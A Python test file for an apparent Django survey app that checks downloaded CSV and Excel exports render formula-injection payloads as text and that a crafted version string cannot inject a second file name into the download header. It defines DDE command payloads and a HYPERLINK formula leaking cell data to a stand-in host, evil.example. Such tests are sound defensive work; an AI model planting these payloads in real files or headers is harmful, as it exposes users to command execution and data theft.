"""What people typed comes back out of every survey download as text: never a spreadsheet
formula, never a second file name in the download's header."""

from __future__ import annotations

import csv
import io
import json
from dataclasses import replace
from email.message import Message
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from pairsight.surveys import actions
from pairsight.surveys.exports import write_msforms_xlsx
from pairsight.surveys.models import Answer
from pairsight.surveys.responses import SurveyResponses

pytestmark = pytest.mark.django_db

OPTION = "@SUM(1+1)*cmd|' /C calc'!A0"
QUESTION = '=HYPERLINK("http://evil.example/?leak="&A1,"What is your profession?")'
COMMENT = "-2+3+cmd|' /C calc'!A0"
PROFESSION = "      - Health visitor\n"


def url(name: str, survey: Any) -> str:
    return reverse(
        f"surveys:{name}", kwargs={"assessment_id": survey.assessment_id, "kind": survey.kind}
    )


def signed_in(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def hostile_survey(team: Any, workforce: Any, practitioners: SurveyResponses, tmp_path: Any) -> Any:
    """The workforce survey with an option, a question and an answer that are formulas."""
    text = workforce.instrument_yaml.replace(PROFESSION, f"      - {json.dumps(OPTION)}\n")
    actions.edit_instrument(actor=team.lead, survey=workforce, yaml_text=text)
    frame = practitioners.frame.copy()
    frame["profession"] = frame["profession"].cat.rename_categories({"Health visitor": OPTION})
    export = write_msforms_xlsx(replace(practitioners, frame=frame), tmp_path / "in.xlsx")
    workforce.refresh_from_db()
    actions.import_file(
        actor=team.editor, survey=workforce, content=export.read_bytes(), file_name="in.xlsx"
    )
    workforce.refresh_from_db()
    text = workforce.instrument_yaml.replace(
        "text: What is your profession?", f"text: {json.dumps(QUESTION)}"
    )
    actions.edit_instrument(actor=team.lead, survey=workforce, yaml_text=text)
    first = Answer.objects.filter(response__survey=workforce, column="comments").first()
    assert first is not None
    Answer.objects.filter(pk=first.pk).update(value=COMMENT)
    workforce.refresh_from_db()
    return workforce


def test_the_findings_csv_shows_formulas_as_text_and_numbers_as_numbers(team, hostile_survey):
    response = signed_in(team.viewer).get(url("findings_download", hostile_survey))
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    profession = [row for row in rows if row["question_id"] == "profession"]
    assert {row["question"] for row in profession} == {"'" + QUESTION}
    chosen = next(row for row in profession if row["answer"] == "'" + OPTION)
    # The practitioners who chose it, counted independently from the stored answers.
    expected = Answer.objects.filter(
        response__survey=hostile_survey, column="profession", value=OPTION
    ).count()
    assert expected > 0
    assert int(chosen["count"]) == expected
    for row in rows:
        for value in row.values():
            assert value[:1] not in {"=", "+", "@", "\t", "\r"}, row


def test_the_responses_workbook_holds_no_formula(team, hostile_survey):
    client = signed_in(team.viewer)
    signed_in(team.editor).post(url("responses_file_start", hostile_survey))
    response = client.get(url("responses_download", hostile_survey))
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    values = [cell.value for cell in cells]
    assert "'" + QUESTION in values
    assert "'" + OPTION in values
    assert "'" + COMMENT in values
    # The response numbers are still numbers.
    assert [cell.value for cell in sheet["A"][1:4]] == [1, 2, 3]


def test_a_file_name_from_the_questionnaire_cannot_add_a_second_file_name(team, workforce):
    version = '1.1"; filename="invoice.html'
    text = workforce.instrument_yaml.replace('version: "1.0"', f"version: {json.dumps(version)}")
    actions.edit_instrument(actor=team.lead, survey=workforce, yaml_text=text)
    client = signed_in(team.viewer)
    for name, suffix in (("questionnaire_pdf", ".pdf"), ("questionnaire_forms", ".txt")):
        header = client.get(url(name, workforce))["Content-Disposition"]
        message = Message()
        message["Content-Disposition"] = header
        assert message.get_content_disposition() == "attachment"
        kind = "questionnaire" if suffix == ".pdf" else "microsoft-forms"
        assert message.get_filename() == f"practitioners-{kind}-v{version}{suffix}"
